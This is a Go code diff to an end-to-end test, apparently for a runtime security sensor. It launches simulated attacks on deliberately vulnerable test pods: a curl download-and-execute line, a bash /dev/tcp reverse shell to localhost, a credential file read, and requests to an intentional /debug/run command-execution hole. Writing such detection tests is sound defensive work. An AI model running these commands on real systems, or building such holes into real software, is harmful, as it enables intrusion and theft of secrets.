@@ -167,7 +167,7 @@ func TestSensorEndToEnd(t *testing.T) {
 
 	// (a) A shell spawned by the blog's python3 web server (an injected CGI script).
 	s.attack(blog.Name, "shell spawned by python3 (CGI)", []string{"sh"}, func() {
-		httpGet(s, blogBase+"/cgi-bin/sh.cgi")
+		attempt(blogBase + "/cgi-bin/sh.cgi")
 	})
 
 	// (b) Download and exec through the shop's remote-code-execution hole.
@@ -175,7 +175,7 @@ func TestSensorEndToEnd(t *testing.T) {
 	dl := "/tmp/bh-e2e-payload-" + randHex(4)
 	t.Cleanup(func() { _ = os.Remove(dl) })
 	s.attack(shop[0].Name, "download and exec", []string{"curl", "bh-e2e-payload"}, func() {
-		rce(s, servers[0].base, fmt.Sprintf("curl -fsS -o %s %s/payload && chmod +x %s && %s", dl, payloads, dl, dl), false)
+		rce(servers[0].base, fmt.Sprintf("curl -fsS -o %s %s/payload && chmod +x %s && %s", dl, payloads, dl, dl), false)
 	})
 
 	// (d) Reading a credential file.
@@ -183,7 +183,7 @@ func TestSensorEndToEnd(t *testing.T) {
 	_ = os.MkdirAll(filepath.Dir(secret), 0o755)
 	_ = os.WriteFile(secret, []byte("e2e-not-a-real-token"), 0o644)
 	s.attack(shop[0].Name, "credential file read", []string{"cat"}, func() {
-		rce(s, servers[0].base, "cat "+secret, false)
+		rce(servers[0].base, "cat "+secret, false)
 	})
 
 	// One baseline per workload, holding what both nodes learned: each shop
@@ -450,7 +450,7 @@ func (s *scenario) reverseShell(k *kernelKit, pod corev1.Pod, base string, senso
 	_, rport, _ := net.SplitHostPort(l.Addr().String())
 	t0 := time.Now()
 	logf("attack on %s: reverse shell to %s", pod.Name, l.Addr())
-	rce(s, base, fmt.Sprintf("bash -c 'exec bash -i >/dev/tcp/127.0.0.1/%s 0<&1 2>&1'", rport), true)
+	rce(base, fmt.Sprintf("bash -c 'exec bash -i >/dev/tcp/127.0.0.1/%s 0<&1 2>&1'", rport), true)
 	_ = l.(*net.TCPListener).SetDeadline(time.Now().Add(10 * time.Second))
 	shell, err := l.Accept()
 	if err != nil {
@@ -617,27 +617,26 @@ func (k *kernelKit) payloadServer(t *testing.T) string {
 	return "http://" + l.Addr().String()
 }
 
-// rce runs cmd through the shop server's /debug/run hole.
-func rce(s *scenario, base, cmd string, detach bool) {
-	s.t.Helper()
+// rce runs cmd through the shop server's /debug/run hole. The pod may be
+// isolated while the command runs, so the answer is only logged.
+func rce(base, cmd string, detach bool) {
 	u := base + "/debug/run?cmd=" + url.QueryEscape(cmd)
 	if detach {
 		u += "&detach=1"
 	}
-	httpGet(s, u)
+	attempt(u)
 }
 
-func httpGet(s *scenario, u string) {
-	s.t.Helper()
+// attempt is an attacker's request: its answer is logged, never required.
+func attempt(u string) {
 	hc := &http.Client{Timeout: 10 * time.Second}
 	resp, err := hc.Get(u)
 	if err != nil {
-		s.t.Fatalf("GET %s: %v", u, err)
+		logf("  attacker's request %s: %v", u, err)
+		return
 	}
-	defer func() { _ = resp.Body.Close() }()
-	if resp.StatusCode != http.StatusOK {
-		s.t.Fatalf("GET %s: %s", u, resp.Status)
-	}
+	_ = resp.Body.Close()
+	logf("  attacker's request %s: %s", u, resp.Status)
 }
 
 func waitHTTP(s *scenario, u string) {
